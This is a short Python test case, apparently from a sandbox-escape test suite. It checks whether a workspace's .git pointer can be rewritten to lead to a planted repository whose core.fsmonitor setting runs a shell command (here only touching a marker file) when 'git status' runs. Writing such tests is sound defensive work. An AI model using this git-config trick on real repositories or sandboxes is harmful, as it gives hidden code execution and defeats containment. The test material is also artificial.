"""in a linked worktree: rewrite its `.git` file to lead to a repository made inside"""
import os
import shutil

STOPS = ["read-only", "workspace-write"]


def prepare(bait):
    main = bait.base + "/main"
    os.rename(bait.ws, main)
    bait.git("worktree", "add", "-q", "-b", "side", bait.ws, directory=main)
    bait.git("checkout", "-q", "side")
    # The runner copies a directory; the trusted one is the whole repository's.
    pointer = open(bait.ws + "/.git").read()
    os.unlink(bait.ws + "/.git")
    shutil.copytree(main + "/.git", bait.ws + "/.git")
    bait.state["pointer"] = pointer


def process(bait):
    shutil.rmtree(bait.ws + "/.git")
    bait.write(bait.ws + "/.git", bait.state["pointer"])
    return {}


def attempt(bait):
    import subprocess
    subprocess.run(["git", "init", "-q", "--bare", "evil"], check=True, stdout=subprocess.DEVNULL)
    with open("evil/config", "a") as config:
        config.write("[core]\n\tbare = false\n\tworktree = %s\n\tfsmonitor = \"touch %s; false\"\n" % (bait.ws, bait.pwned))
    with open(bait.ws + "/.git", "w") as file:
        file.write("gitdir: %s/evil\n" % bait.ws)
    return "rewritten"


def escaped(bait):
    bait.git("status")
    return bait.executed()
